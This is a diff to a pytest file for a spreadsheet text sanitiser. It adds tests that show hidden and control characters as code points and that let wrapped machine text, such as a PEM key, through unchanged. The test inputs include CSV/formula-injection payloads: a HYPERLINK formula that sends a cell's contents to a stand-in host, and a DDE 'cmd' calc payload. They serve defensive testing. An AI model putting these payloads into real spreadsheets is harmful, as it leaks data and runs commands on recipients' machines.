@@ -8,7 +8,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from reports.sheet_text import append, as_written, inert, put
+from reports.sheet_text import MachineText, append, as_written, inert, put
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&C2,"点击查看")', "+86 138", "-2+3+cmd|' /C calc'!A0",
@@ -27,8 +27,19 @@ def test_plain_text_is_left_alone() -> None:
     assert inert("贝壳") == "贝壳" and as_written("'abc") == "'abc"  # a channel's own apostrophe stays
 
 
-def test_control_characters_an_xlsx_cannot_hold_are_replaced_not_refused() -> None:
-    assert inert("备注\x01结束\x0b") == "备注\ufffd结束\ufffd"
+def test_control_characters_an_xlsx_cannot_hold_are_shown_not_refused() -> None:
+    assert inert("备注\x01结束\x0b") == "备注<U+0001>结束<U+000B>"
+    assert inert(MachineText("a\x01")) == "a\ufffd"
+
+
+def test_hidden_characters_show_as_code_points_as_in_the_pdfs() -> None:
+    assert inert("贝\u202e壳\u200b") == "贝<U+202E>壳<U+200B>"
+    assert inert("第一行\n第二行") == "第一行\n第二行"  # a note's line breaks stay
+
+
+def test_machine_text_is_written_as_it_is() -> None:
+    pem = "-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----"
+    assert inert(MachineText(pem)) == pem and inert(pem).startswith("'")
 
 
 def test_a_workbook_keeps_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
